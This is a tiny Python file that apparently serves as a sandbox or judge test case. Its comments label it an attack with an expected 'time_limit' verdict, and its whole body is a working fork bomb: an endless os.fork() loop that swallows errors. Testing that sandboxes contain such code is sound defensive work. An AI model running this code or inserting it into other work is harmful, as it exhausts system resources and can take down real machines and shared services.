# attack: forks for ever before anything is asked
# door: call
# verdict: time_limit
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
